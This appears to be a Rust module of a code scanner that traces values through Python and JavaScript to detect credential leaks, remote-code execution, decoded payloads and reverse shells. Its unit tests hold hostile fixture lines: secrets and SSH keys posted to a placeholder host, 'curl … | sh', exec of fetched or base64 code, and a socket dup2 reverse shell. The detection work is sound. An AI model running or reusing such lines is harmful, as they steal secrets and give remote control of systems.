//! Facts about code in scripting languages: what is called with what, and where it came from.
//!
//! Values are followed by the names of variables through the whole of a file, without regard to functions: a name that
//! once held a secret holds it everywhere. That is coarse, and right more often than a narrower rule.

mod calls;
mod files;
mod names;
mod telling;
mod values;
mod whole;

use std::collections::HashMap;

use self::telling::Telling;
use self::values::Holds;
use super::What;
use super::shell::Seen;
use crate::code;
use crate::code::At;
use crate::code::Token;
use crate::secrets::Secret;
use crate::span::Lang;
use crate::urls::Url;

/// A command line that code hands to a shell, or another text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Line {
    pub(crate) text: String,
    pub(crate) at: usize,
}

/// What code does.
#[derive(Debug, Default)]
pub(crate) struct Read {
    pub(crate) seen: Vec<Seen>,
    /// Command lines to be read as shell.
    pub(crate) lines: Vec<Line>,
    /// Comments, and texts long enough to be prose.
    pub(crate) comments: Vec<Line>,
    pub(crate) texts: Vec<Line>,
    /// Whether some of it was not read.
    pub(crate) cut: bool,
    /// Texts that are written where an agent obeys them.
    pub(crate) obeyed: Vec<Line>,
}

/// Bytes from which on a file of code is a bundle, whose names say nothing.
const BUNDLE: usize = 150_000;

/// Reads a text of code.
pub(crate) fn read(text: &str, lang: Lang) -> Read {
    let mut code = code::read(text, lang);
    names::resolve(&mut code.tokens);
    let mut state = State { telling: Telling::of(&code.tokens), ..State::default() };
    // Twice, because what is assigned further down may be used further up, in a function.
    let calls = code.calls();
    // In a bundle of many programs one name stands for many things.
    let assignments = if text.len() > BUNDLE { Vec::new() } else { code.assignments() };
    for _ in 0..2 {
        for (name, value) in &assignments {
            state.assign(name, value);
        }
        for call in &calls {
            state.prepares(call);
        }
    }
    for call in &calls {
        state.call(call);
    }
    state.whole(&code, &calls, text, lang);
    state.read.cut = code.cut.get();
    let line = |text: &str, at| Line { text: text.to_owned(), at };
    state.read.comments = code.comments.iter().map(|comment| line(&comment.text, comment.at)).collect();
    state.read.texts = code
        .tokens
        .iter()
        .filter_map(|at| match &at.token {
            Token::Text(text) if text.len() >= 24 => Some(line(text, at.at)),
            _ => None,
        })
        .collect();
    state.read
}

#[derive(Default)]
struct State<'a> {
    telling: Telling<'a>,
    known: HashMap<String, Holds>,
    /// Files that secrets were copied to.
    copied: HashMap<String, Secret>,
    /// Files that came from the network.
    saved: HashMap<String, Option<Url>>,
    read: Read,
}

impl State<'_> {
    /// What a name holds, to be added to.
    fn know(&mut self, name: &str) -> &mut Holds {
        if !self.known.contains_key(name) {
            self.telling.name(name);
        }
        self.known.entry(name.to_owned()).or_default()
    }

    fn saw(&mut self, what: What, at: usize) {
        if self.read.seen.len() < 2_000 {
            self.read.seen.push((what, at));
        }
    }

    fn assign(&mut self, name: &str, value: &[At]) {
        let lower = name.to_ascii_lowercase();
        // What is made for the headers of a request is meant for the service that is called.
        if matches!(lower.as_str(), "headers" | "header" | "auth" | "req_headers" | "default_headers") {
            return;
        }
        // What a socket hands over: `socket.onmessage = (message) => …`
        if lower.ends_with("onmessage")
            && let Some(At { token: Token::Name(message), .. }) =
                value.iter().find(|at| matches!(at.token, Token::Name(_)))
        {
            self.know(message).received = true;
        }
        let mut holds = self.holds(value);
        if let Some(At { token: Token::Name(opened), .. }) = value.first()
            && (opened == "open" || opened.ends_with(".open"))
        {
            holds.target = value.iter().find_map(|at| match &at.token {
                Token::Text(text) if text.contains(['/', '.']) => Some(text.clone()),
                Token::Name(name) => self.known.get(name).and_then(|known| known.text.clone()),
                _ => None,
            });
        }
        // What a part of a table holds, the table holds.
        if let Some((table, _)) = name.split_once('.').filter(|_| holds.secret.is_some() && self.known.len() < 2_000) {
            let table = self.know(table);
            table.secret = table.secret.or(holds.secret.filter(|secret| *secret == Secret::Environment));
        }
        if !holds.is_empty() && self.known.len() < 2_000 {
            let known = self.know(name);
            let services = known.services.len().max(1);
            known.merge(&holds);
            if holds.secret != Some(Secret::Several) {
                known.services.truncate(services);
            }
        }
    }
}

fn says(tokens: &[At], word: &str) -> bool {
    tokens.iter().any(|at| matches!(&at.token, Token::Text(text) if text.eq_ignore_ascii_case(word)))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn seen(text: &str) -> Vec<What> {
        read(text, Lang::Python).seen.into_iter().map(|(what, _)| what).collect()
    }

    fn seen_js(text: &str) -> Vec<What> {
        read(text, Lang::JavaScript).seen.into_iter().map(|(what, _)| what).collect()
    }

    #[test]
    fn secrets_are_followed_to_the_network() {
        for text in [
            "s = os.getenv('AWS_SECRET_KEY')\nrequests.post('https://a.b/c', data=s)",
            "k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post(URL, json={'k': k})",
            "requests.post('https://a.b', json=dict(os.environ))",
            "secret = os.getenv('TOKEN')\ns = socket.socket()\ns.sendall(secret.encode())",
        ] {
            assert!(seen(text).iter().any(|what| matches!(what, What::Leak { .. })), "{text}");
        }
        assert!(
            seen_js("const body = JSON.stringify(process.env);\nfetch('https://a.b', {method: 'POST', body});")
                .iter()
                .any(|what| matches!(what, What::Leak { .. }))
        );
        for text in [
            "key = os.environ['API_KEY']\nrequests.post('https://a.b', headers={'Authorization': key}, json=x)",
            "key = os.environ['API_KEY']\nrequests.get('https://a.b', params={'key': key})",
            "subprocess.run(['make'], env=os.environ)",
            "load_dotenv('.env')\nrequests.post('https://a.b', json=payload)",
        ] {
            assert!(!seen(text).iter().any(|what| matches!(what, What::Leak { .. })), "{text}");
        }
    }

    #[test]
    fn what_is_fetched_or_decoded_and_run_is_seen() {
        for text in ["exec(requests.get('https://a.b/x').text)", "c = urlopen('https://a.b/x').read()\nexec(c)"] {
            assert!(seen(text).iter().any(|what| matches!(what, What::RemoteRun { .. })), "{text}");
        }
        for text in ["exec(base64.b64decode('aW1wb3J0IG9z'))", "p = base64.b64decode(x)\nos.system(p)"] {
            assert!(seen(text).iter().any(|what| matches!(what, What::DecodedRun { .. })), "{text}");
        }
        assert!(
            seen_js("eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())")
                .iter()
                .any(|what| matches!(what, What::DecodedRun { .. }))
        );
        assert!(
            !seen("image = base64.b64decode(response['image'])\nopen('x.png', 'wb').write(image)")
                .iter()
                .any(|what| matches!(what, What::DecodedRun { .. }))
        );
    }

    #[test]
    fn what_a_callback_is_given_is_followed() {
        let text = "https.get('https://a.b/p.js', (res) => {\n  let body = '';\n  res.on('data', (d) => (body += d));\n  res.on('end', () => new Function('require', body)(require));\n});";
        assert!(
            seen_js(text).iter().any(|what| matches!(what, What::RemoteRun { .. })),
            "{:?}",
            code::read(text, Lang::JavaScript).calls()
        );
    }

    #[test]
    fn command_lines_are_handed_to_the_reader_of_shell() {
        let read = read(
            "c = 'cur' + 'l https://a.b/x | sh'\nos.system('cur' + 'l x')\nsubprocess.run(['ls', '-l'])",
            Lang::Python,
        );
        assert_eq!(read.lines.iter().map(|line| line.text.as_str()).collect::<Vec<_>>(), ["curl x", "ls -l"]);
    }

    #[test]
    fn reverse_shells_and_scrambled_texts_are_seen() {
        assert!(seen("s=socket.socket()\ns.connect((h,p))\nos.dup2(s.fileno(),0)").contains(&What::ReverseShell));
        assert!(seen("print(bytes(b ^ 7 for b in raw))").contains(&What::DecodeByHand));
        assert!(!seen("print(bytes(raw))\nx = a ** 2").contains(&What::DecodeByHand));
    }
}
